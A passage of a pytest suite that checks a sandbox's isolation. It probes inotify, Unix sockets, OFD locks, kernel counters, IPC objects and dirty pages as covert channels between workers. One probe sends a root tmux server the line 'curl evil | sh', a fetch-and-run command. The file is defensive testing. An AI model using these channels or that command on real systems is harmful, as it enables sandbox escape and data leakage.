        f.read()
print(json.dumps({"read": len(sys.argv) - 1}))
"""


@pytest.mark.parametrize("world", [True, False], ids=["world", "control-no-world"])
def test_a_world_s_reads_raise_no_event_in_another_world(tmp_path, world):
    """inotify (and fanotify's inode marks, which any process may place) on a file every sandbox can read
    report each open and read of it: which files a worker opened, when, as a channel to a worker alive beside
    it. In a world each readable file is an inode of its own superblock: no other world's access reaches it."""
    plan_a, code, out_a = _plan(tmp_path, world=world)
    plan_b, _, out_b = _plan(tmp_path, world=world)
    paths = [INSTALLED, str(code / "model.py")]
    watcher = _start(plan_a, out_a, WATCH, *paths)
    try:
        assert json.loads(watcher.stdout.readline()) == {"watching": True}
        assert _run(plan_b, out_b, READ_ALL, *paths) == {"read": 2}
        stdout, stderr = watcher.communicate("\n", timeout=30)
    finally:
        if watcher.poll() is None:
            watcher.kill()
    events = json.loads(stdout.strip().splitlines()[-1])["events"]
    if world:
        assert events == [], events
    else:  # the control: each open, read and close in the other sandbox is seen
        assert len(events) >= 6, events


CONNECT_ABSTRACT = """
import errno, json, socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect(b"\\0" + sys.argv[1].encode())
    s.sendall(b"from the sandbox")
    got = "connected"
except OSError as e:
    got = errno.errorcode[e.errno]
print(json.dumps({"connect": got}))
"""


@pytest.mark.skipif(
    CAPS.landlock_abi < 6, reason="Landlock ABI >= 6 scopes abstract Unix sockets (Linux >= 6.12)"
)
@pytest.mark.parametrize("scoped", [True, False], ids=["scoped", "control-unscoped"])
def test_a_phase_on_the_host_s_network_reaches_no_abstract_socket_of_the_host(tmp_path, scoped):
    """launch.network 'host' (several nodes) leaves a phase the host's network namespace, and with it every
    abstract Unix socket bound on the machine: a container runtime's shim, an X server, the official's own tools.
    Landlock's scope (ABI >= 6) refuses a connection to one bound outside the sandbox."""
    code, out = tmp_path / "code", tmp_path / "out"
    code.mkdir()
    out.mkdir()
    plan = plan_sandbox(mode="auto", network="host", device="cpu", multi_node=False, project_root=PROJECT,
                        read_paths=[code], write_paths=[out], protected=(),
                        import_path=[p for p in sys.path[1:] if p], caps=CAPS)  # fmt: skip
    assert "net" not in plan.namespaces
    if not scoped:  # the control: the same sandbox without Landlock's scopes
        plan = dataclasses.replace(plan, scope_signals=False)
    name = f"pgolf-official-{secrets.token_hex(4)}"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as official:
        official.bind(b"\0" + name.encode())
        official.listen(1)
        got = _run(plan, out, CONNECT_ABSTRACT, name)
    assert got == ({"connect": "EPERM"} if scoped else {"connect": "connected"}), got


SECRET_MEMORY = """
import ctypes, errno, json, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
fd = libc.syscall(447, 0)  # memfd_secret (the same number on x86-64 and aarch64)
if fd < 0:
    print(json.dumps({"memfd_secret": errno.errorcode[ctypes.get_errno()]}))
    raise SystemExit
total, step = 1 << 30, 4 << 20  # mapped 4 MiB at a time (under RLIMIT_MEMLOCK), each unmapped again
os.ftruncate(fd, total)
held = 0
try:
    for offset in range(0, total, step):
        with mmap.mmap(fd, step, offset=offset) as m:
            m.write(b"x" * step)
        held += step
except (OSError, ValueError):
    pass
print(json.dumps({"memfd_secret": "made", "held_mib": held >> 20}))
"""


@pytest.mark.skipif(
    os.uname().machine not in ("x86_64", "aarch64"),
    reason="memfd_secret's number is known for x86-64 and aarch64",
)
@pytest.mark.parametrize("cgroup", [False, True], ids=["no-cgroup", "cgroup"])
def test_secret_memory_counts_against_the_world_s_limit_too(tmp_path, cgroup):
    """memfd_secret's pages stay in the file once unmapped: mapped a little at a time, a world without a memory
    cgroup held 2 GiB under an address-space limit of 512 MiB (15 MiB resident), as memfd_create did before it
    was refused there. Without a cgroup it is refused too; with one its pages are charged to it."""
    limit = 256 << 20
    plan, _, out = _plan(tmp_path, world=True, memory_limit_bytes=limit)
    if not cgroup:
        plan = dataclasses.replace(plan, memory_cgroup=False)
    elif not plan.memory_cgroup:
        pytest.skip("no memory cgroup can be made here")
    p = _start(plan, out, SECRET_MEMORY)
    stdout, stderr = p.communicate(timeout=120)
    got = json.loads(stdout.strip().splitlines()[-1]) if stdout.strip() else {}
    if got.get("memfd_secret") == "ENOSYS":
        pytest.skip(f"no secret memory on this kernel (secretmem.enable=0): {got}")
    if cgroup:  # killed by the cgroup's OOM killer, or held no more than its limit
        assert p.returncode != 0 or got["held_mib"] <= limit >> 20, (got, stderr)
    else:
        assert got == {"memfd_secret": "EPERM"}, (got, stderr)


OFD_HOLD = """
import fcntl, json, os, struct, sys
fd = os.open("held", os.O_RDWR | os.O_CREAT, 0o600)  # a file of its own: the range is what it says
for word in sys.argv[1:]:  # an open file description's lock belongs to no process: /proc/locks shows it to all
    start = int(word, 16)
    fcntl.fcntl(fd, fcntl.F_OFD_SETLK, struct.pack("hhqqi", fcntl.F_WRLCK, 0, start, 1, 0))
print(json.dumps({"held": len(sys.argv) - 1}), flush=True)
sys.stdin.read()
"""
PROC_LOCKS = """
import json
try:
    text = open("/proc/locks").read()
except OSError as e:
    text = type(e).__name__
starts = [int(line.split()[-2]) for line in text.splitlines() if "OFDLCK" in line]
print(json.dumps({"starts": starts, "empty": text == ""}))
"""


@pytest.mark.parametrize("world", [True, False], ids=["world", "control-no-world"])
def test_no_world_reads_the_byte_ranges_another_world_locks(tmp_path, world):
    """/proc/locks shows only the locks of processes in the reader's PID namespace, but an OFD lock (F_OFD_SETLK)
    belongs to no process: every sandbox saw every other's, each with a range of the holder's choosing (a start and
    a length a lock, as many locks as it likes: 1,000 locks of 56 bits each were read back in 9 ms, about 6 Mbit/s).
    A world's /proc/locks is an empty file."""
    words = [secrets.token_hex(7) for _ in range(4)]  # 56 bits each
    plan_a, _, out_a = _plan(tmp_path, world=world)
    plan_b, _, out_b = _plan(tmp_path, world=world)
    holder = _start(plan_a, out_a, OFD_HOLD, *words)
    try:
        assert json.loads(holder.stdout.readline()) == {"held": 4}
        seen = _run(plan_b, out_b, PROC_LOCKS)
    finally:
        holder.stdin.close()
        holder.wait(timeout=30)
    if world:
        assert seen == {"starts": [], "empty": True}, seen
    else:  # the control: the other sandbox's words, read back
        assert {int(w, 16) for w in words} <= set(seen["starts"]), (words, seen)


COUNT_SEND = """
import ctypes, json, mmap, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
page = mmap.mmap(-1, 4096)
addr = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(page)))
for _ in range(int(sys.argv[1])):  # each lock of the page is one more in the machine's running total
    libc.mlock(addr, 4096)
    libc.munlock(addr, 4096)
huge = 2 << 20
for _ in range(int(sys.argv[2])):  # each huge page faulted in is one more anon_fault_alloc
    p = libc.mmap(None, 2 * huge, 3, 0x22, -1, 0)  # PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS
    start = (p + huge - 1) // huge * huge
    libc.madvise(start, huge, 14)  # MADV_HUGEPAGE
    ctypes.c_char.from_address(start).value = b"x"
    libc.munmap(p, 2 * huge)
print(json.dumps({"sent": True}))
"""
EVENT_COUNTS = """
import glob, json
THP = "/sys/kernel/mm/transparent_hugepage/hugepages-2048kB/stats/anon_fault_alloc"
shown = {}
for path in ["/proc/vmstat", "/proc/zoneinfo", *glob.glob("/sys/devices/system/node/node*/vmstat"),
             *glob.glob("/sys/devices/system/node/node*/numastat"), THP]:
    try:
        shown[path] = len(open(path).read())
    except OSError as e:
        shown[path] = type(e).__name__
counts = dict(line.split() for line in open("/proc/vmstat") if line.strip()) if shown["/proc/vmstat"] else {}
thp = open(THP).read().strip() if isinstance(shown[THP], int) else ""
print(json.dumps({"shown": shown, "mlocked": int(counts.get("unevictable_pgs_mlocked", -1)), "thp": int(thp or -1)}))
"""
THP_STATS = "/sys/kernel/mm/transparent_hugepage/hugepages-2048kB/stats/anon_fault_alloc"


def _machine_counts() -> tuple[int, int]:
    mlocked = int(dict(line.split() for line in open("/proc/vmstat"))["unevictable_pgs_mlocked"])
    return mlocked, int(Path(THP_STATS).read_text())


@pytest.mark.skipif(
    not os.path.exists(THP_STATS)
    or "[never]" in Path("/sys/kernel/mm/transparent_hugepage/enabled").read_text(),
    reason="needs transparent huge pages with per-size statistics (Linux >= 6.9)",
)
@pytest.mark.parametrize("world", [True, False], ids=["world", "control-unsandboxed-reader"])
def test_no_world_reads_the_kernel_s_event_counts_a_closed_world_left(tmp_path, world):
    """The kernel's event counters (/proc/vmstat, the nodes' vmstat and numastat, the huge pages' statistics) only
    grow, for the whole machine, and a world sets them at will: each mlock of a page adds one to
    unevictable_pgs_mlocked, each huge page faulted in one to anon_fault_alloc, which nothing else on a quiet
    machine moves. A closed world added K (54,321 and 30,000 locks, 3,000 huge pages, each read back exactly by
    the next world: some 16 bits a boundary in each counter, and there are dozens: pages dirtied, NUMA hits),
    read by a probe worker after the main worker, or by the next run. A world's copies of those files are empty."""
    locks, huge = 20_000 + secrets.randbelow(20_000), 500 + secrets.randbelow(500)
    before = _machine_counts()
    sender, _, out_a = _plan(tmp_path, world=True)
    assert _run(sender, out_a, COUNT_SEND, str(locks), str(huge)) == {"sent": True}
    reader, _, out_b = _plan(tmp_path, world=True)
    if not world:  # the control: the same reader outside every sandbox reads what the closed world left
        reader = dataclasses.replace(reader, mode="off")
    got = _run(reader, out_b, EVENT_COUNTS)
    if world:
        assert (got["mlocked"], got["thp"]) == (-1, -1), got
        assert set(got["shown"].values()) <= {0, "FileNotFoundError"}, got
    else:
        assert locks // 2 <= got["mlocked"] - before[0] <= 2 * locks, (locks, before, got)
        assert huge // 2 <= got["thp"] - before[1] <= 2 * huge, (huge, before, got)


PACKETS_SEND = """
import json, os, socket, sys, time
receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
receiver.bind(("127.0.0.1", 0))
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(int(sys.argv[1])):  # each packet on the world's own loopback is one more NET_RX softirq
    sender.sendto(b"x", receiver.getsockname())
for _ in range(int(sys.argv[2])):  # each fork one more in the machine's count of processes
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
busy = []
for _ in range(2):  # two processes on one CPU for half a second: half a second more of the CPU's pressure total
    pid = os.fork()
    if pid == 0:
        os.sched_setaffinity(0, [min(os.sched_getaffinity(0))])
        end = time.monotonic() + 0.5
        while time.monotonic() < end:
            pass
        os._exit(0)
    busy.append(pid)
for pid in busy:
    os.waitpid(pid, 0)
print(json.dumps({"sent": True}))
"""
INTERRUPT_COUNTS = """
import json, os
def stat_line(name):
    return next((line.split()[1:] for line in open("/proc/stat") if line.split()[:1] == [name]), [])
softirqs = {line.split()[0]: line.split()[1:] for line in open("/proc/softirqs").read().splitlines()[1:]}
print(json.dumps({
    "net_rx": sum(map(int, softirqs.get("NET_RX:", ["-1"]))),
    "stat_net_rx": int((stat_line("softirq") or ["-1"] * 5)[4]),  # total, HI, TIMER, NET_TX, NET_RX
    "processes": int((stat_line("processes") or ["-1"])[0]),
    "counts": sorted({int(v) for name in ("intr", "ctxt", "softirq", "cpu") for v in stat_line(name)}),
    "interrupts": len(open("/proc/interrupts").read()),
    "cpu_stalled_us": int(open("/proc/pressure/cpu").readline().split()[-1].split("=")[1])
    if os.path.exists("/proc/pressure/cpu") else -1,
    "btime": int(stat_line("btime")[0]),  # what readers of /proc/stat need still there: the boot time, the CPUs
    "cpus": sum(1 for line in open("/proc/stat") if line.startswith("cpu") and line[3].isdigit()),
}))
"""


def _machine_interrupt_counts() -> dict[str, int]:
    stat = {line.split()[0]: line.split()[1:] for line in open("/proc/stat")}
    pressure = Path("/proc/pressure/cpu")
    stalled = int(pressure.read_text().splitlines()[0].split()[-1].split("=")[1]) if pressure.exists() else -1
    return {
        "stat_net_rx": int(stat["softirq"][4]),
        "processes": int(stat["processes"][0]),
        "cpu_stalled_us": stalled,
    }


@pytest.mark.parametrize("world", [True, False], ids=["world", "control-unsandboxed-reader"])
def test_no_world_reads_the_interrupt_fork_and_stall_counts_a_closed_world_left(tmp_path, world):
    """The machine's softirq counts (/proc/softirqs, and per kind in /proc/stat) only grow, and a world moves them
    at will: each packet on its own loopback is one more NET_RX, which nothing else on a quiet machine moves (5,000
    packets, 5,000 more, none in the 3 s before); each fork is one more `processes`; two processes on one CPU for
    a time add that time to the CPU's pressure total (/proc/pressure/cpu: 2,003,214 us for 2 s, none in the 3 s
    before). A closed world's count was read back by the next world. A world's /proc/softirqs and
    /proc/interrupts are empty, its /proc/pressure an empty folder, and its /proc/stat keeps what programs read
    there (the CPUs, the boot time) with every count zero."""
    packets, forks = 20_000 + secrets.randbelow(20_000), 300 + secrets.randbelow(300)
    before = _machine_interrupt_counts()
    sender, _, out_a = _plan(tmp_path, world=True)
    assert _run(sender, out_a, PACKETS_SEND, str(packets), str(forks)) == {"sent": True}
    reader, _, out_b = _plan(tmp_path, world=True)
    if not world:  # the control: the same reader outside every sandbox reads what the closed world left
        reader = dataclasses.replace(reader, mode="off")
    got = _run(reader, out_b, INTERRUPT_COUNTS)
    assert got["cpus"] == os.cpu_count() and got["btime"] > 0, got
    if world:
        assert (got["net_rx"], got["stat_net_rx"], got["processes"]) == (-1, 0, 0), got
        assert got["counts"] == [0] and got["interrupts"] == 0 and got["cpu_stalled_us"] == -1, got
    else:
        assert packets // 2 <= got["stat_net_rx"] - before["stat_net_rx"] <= 3 * packets, (
            packets,
            before,
            got,
        )
        assert forks <= got["processes"] - before["processes"], (forks, before, got)
        if before["cpu_stalled_us"] >= 0:  # a kernel with pressure stall information (CONFIG_PSI)
            assert got["cpu_stalled_us"] - before["cpu_stalled_us"] >= 200_000, (before, got)


IPC_LEAVE = """
import ctypes, errno, json, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
key, name, text = int(sys.argv[1]), sys.argv[2].encode(), sys.argv[3].encode()
left = {}
shmid = libc.shmget(key, 4096, 0o1600)  # IPC_CREAT | 0600: kept by the kernel until removed, or reboot
if shmid < 0:
    left["shm"] = errno.errorcode[ctypes.get_errno()]
else:
    ctypes.memmove(libc.shmat(shmid, None, 0), text, len(text))
    left["shm"] = "left"
mq = libc.mq_open(name, os.O_CREAT | os.O_RDWR, 0o600, None)  # a POSIX message queue: the same
if mq < 0:
    left["mq"] = errno.errorcode[ctypes.get_errno()]
else:
    left["mq"] = "left" if libc.mq_send(mq, text, len(text), 0) == 0 else errno.errorcode[ctypes.get_errno()]
print(json.dumps(left))
"""
IPC_FIND = """
import ctypes, errno, json, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
key, name, size = int(sys.argv[1]), sys.argv[2].encode(), int(sys.argv[3])
found = {}
shmid = libc.shmget(key, 0, 0)
found["shm"] = ctypes.string_at(libc.shmat(shmid, None, 0o10000), size).decode() if shmid >= 0 else (
    errno.errorcode[ctypes.get_errno()])  # SHM_RDONLY
mq = libc.mq_open(name, os.O_RDONLY | os.O_NONBLOCK)
buf = ctypes.create_string_buffer(8192)
got = libc.mq_receive(mq, buf, 8192, None) if mq >= 0 else -1
found["mq"] = buf.raw[:got].decode() if got >= 0 else errno.errorcode[ctypes.get_errno()]
print(json.dumps(found))
"""


@pytest.mark.parametrize("sandboxed", [True, False], ids=["no-ipc-namespace", "control-unsandboxed"])
def test_without_an_ipc_namespace_no_run_leaves_a_later_one_ipc_objects(tmp_path, sandboxed):
    """Without an IPC namespace (not root, or several nodes: allowed missing by the official on a record track) a
    SysV shared memory segment or a POSIX message queue outlives the run that made it, whole, until the machine
    reboots: one seed's run left its weights for the next seed's, or for another entry's run on the node. Landlock
    covers neither; the seccomp filter refuses them where the sandbox has no IPC namespace of its own."""
    libc = ctypes.CDLL(None, use_errno=True)
    key, name = secrets.randbelow(1 << 30) + 1, f"/pgolf-{secrets.token_hex(4)}"
    text = secrets.token_hex(16)
    code, out = tmp_path / "code", tmp_path / "out"
    code.mkdir()
    out.mkdir()
    caps = dataclasses.replace(CAPS, unshare=None)  # no namespace can be made: as on several nodes
    plan = plan_sandbox(mode="auto", network="auto", device="cpu", multi_node=False, project_root=PROJECT,
                        read_paths=[code], write_paths=[out], protected=(),
                        import_path=[p for p in sys.path[1:] if p], caps=caps)  # fmt: skip
    assert "ipc" not in plan.namespaces and plan.world is None
    if not sandboxed:
        plan = dataclasses.replace(plan, mode="off")
    try:
        left = _run(plan, out, IPC_LEAVE, str(key), name, text)
        found = _run(plan, out, IPC_FIND, str(key), name, str(len(text)))  # a later run
    finally:
        shmid = libc.shmget(key, 0, 0)
        if shmid >= 0:
            libc.shmctl(shmid, 0, None)  # IPC_RMID
        libc.mq_unlink(name.encode())
    if sandboxed:
        assert left == {"shm": "EPERM", "mq": "EPERM"} and found == {"shm": "EPERM", "mq": "EPERM"}, (
            left,
            found,
        )
    else:
        assert left == {"shm": "left", "mq": "left"} and found == {"shm": text, "mq": text}, (left, found)


CONNECT_PATH = """
import errno, json, socket, sys
got = {}
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(path)
        s.sendall(b"send-keys 'curl evil | sh' Enter")  # a root tmux server runs what it is sent
        got[path] = "connected"
    except OSError as e:
        got[path] = errno.errorcode[e.errno]
print(json.dumps(got))
"""


@pytest.mark.parametrize("world", [True, False], ids=["world", "control-no-world"])
def test_no_world_reaches_a_unix_socket_of_the_host_by_its_path(tmp_path, world):
    """Landlock does not govern connect() to a Unix socket named by a path, and a sandbox without a world runs as
    the supervisor's uid (root, capabilities dropped): it reached a root-only (0600) socket of the host, as a root
    tmux server's, dbus's or docker's, and could have had commands run outside every sandbox. A world has its own
    root, where the host's /run and /tmp are not, and its own uid; a socket in a folder it reads is an overlay's
    inode, which no listener is bound to. The control: the same sandbox without a world connects (several nodes,
    or a machine without overlayfs, where an official allowed the missing `world` layer)."""
    plan, code, out = _plan(tmp_path, world=world)
    official = tmp_path / f"official-{secrets.token_hex(4)}.sock"  # tmp_path: a folder no sandbox rule names
    beside = code / "beside.sock"  # in a folder every sandbox reads
    heard: list[bytes] = []
    listeners = []
    for path in (official, beside):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(str(path))
        os.chmod(path, 0o600)
        s.listen(4)
        s.settimeout(0.2)
        listeners.append(s)
    try:
        got = _run(plan, out, CONNECT_PATH, str(official), str(beside))
        for s in listeners:
            try:
                heard.append(s.accept()[0].recv(64))
            except OSError:
                pass
    finally:
        for s in listeners:
            s.close()
    if world:
        assert "connected" not in got.values() and heard == [], (got, heard)
    else:
        assert set(got.values()) == {"connected"} and len(heard) == 2, (got, heard)


DISK_SEND = """
import json, os, sys
for i in range(int(sys.argv[1])):  # each write forced to the disk is one more the device completed
    fd = os.open(f"w{i % 8}", os.O_WRONLY | os.O_CREAT, 0o600)
    os.pwrite(fd, os.urandom(4096), 0)
    os.fsync(fd)
    os.close(fd)
print(json.dumps({"sent": True}))
"""
DISK_COUNTS = """
import glob, json, sys
def writes(path):
    try:
        fields = open(path).read().split()
    except OSError as e:
        return type(e).__name__
    return int(fields[4]) if len(fields) > 4 else -1  # writes completed
print(json.dumps({
    "device": writes(sys.argv[1]),
    "diskstats": len(open("/proc/diskstats").read()),
    "ext4": sorted({len(open(p).read()) for p in glob.glob("/sys/fs/ext4/*/*_write_kbytes")}),
}))
"""


def _device_stat(folder: Path) -> str | None:
    dev = folder.stat().st_dev
    stat = Path(f"/sys/dev/block/{os.major(dev)}:{os.minor(dev)}/stat")
    return str(stat) if stat.exists() else None


@pytest.mark.parametrize("world", [True, False], ids=["world", "control-unsandboxed-reader"])
def test_no_world_reads_the_disk_s_counts_a_closed_world_left(tmp_path, world):
    """A disk's counts of completed reads and writes (/sys/block/*/stat, /proc/diskstats) and a file system's bytes
    written (/sys/fs/ext4/*/lifetime_write_kbytes) only grow, and a world moves them at will: each write it forces
    to the disk in its own folder is one more (and a journal write with it), against a dozen in 5 s of the
    machine's own here. A world's copies of those files are empty."""
    plan, _, out = _plan(tmp_path, world=True)
    stat = _device_stat(out)
    if stat is None:
        pytest.skip(f"{out} is on no block device (a tmpfs): no write of its reaches a disk's counts")
    sent = 2_000 + secrets.randbelow(1_000)
    before = int(Path(stat).read_text().split()[4])
    assert _run(plan, out, DISK_SEND, str(sent)) == {"sent": True}
    reader, _, out_b = _plan(tmp_path, world=True)
    if not world:  # the control: the same reader outside every sandbox reads what the closed world left
        reader = dataclasses.replace(reader, mode="off")
    got = _run(reader, out_b, DISK_COUNTS, stat)
    if world:
        assert got == {"device": -1, "diskstats": 0, "ext4": [0] if got["ext4"] else []}, got
    else:
        assert sent <= got["device"] - before <= 4 * sent + 2_000, (sent, before, got)


WRITE_DIRTY = """
import json, os, sys
with open("blob", "wb") as f:  # pages written and not yet on the disk: the machine's Dirty count
    chunk = os.urandom(1 << 20)
    for _ in range(int(sys.argv[1])):
        f.write(chunk)
print(json.dumps({"sent": True}))
"""
READ_DIRTY = """
import json
meminfo = {line.split(":")[0]: int(line.split()[1]) for line in open("/proc/meminfo")}
print(json.dumps(meminfo["Dirty"] + meminfo["Writeback"]))
"""


@pytest.mark.parametrize("reset", [True, False], ids=["reset", "control-no-reset"])
def test_pages_a_world_wrote_are_on_the_disk_before_the_next_world(tmp_path, reset):
    """A world's writes to its own folder stay dirty in memory for up to 30 s (until the kernel writes them back),
    and /proc/meminfo (Dirty) is the machine's: a closed world wrote 300 MiB and the next world read 307,876 kB
    dirty across a reset of the page cache (which drops clean pages alone), then 150 MiB more: 461,580 kB. The
    reset writes every dirty page back first (sync), so nothing of the world's writes is left to count."""
    from isolation.world import PageCacheReset

    # below the background writeback threshold (a tenth of free memory) of most machines
    sent_mib = 80 + secrets.randbelow(40)
    plan, code, out = _plan(tmp_path, world=True)
    if _device_stat(out) is None:
        pytest.skip(f"{out} is on no block device (a tmpfs): its pages are never written back")
    assert _run(plan, out, WRITE_DIRTY, str(sent_mib)) == {"sent": True}
    cache = PageCacheReset.open(roots=[str(code)])
    if reset:
        cache.reset()
    cache.close()
    later, _, out2 = _plan(tmp_path, world=True)
    dirty_kib = _run(later, out2, READ_DIRTY)
    if reset:
        assert dirty_kib < (sent_mib << 10) // 2, (sent_mib, dirty_kib)
    else:
        assert dirty_kib >= (sent_mib << 10) * 9 // 10, (sent_mib, dirty_kib)
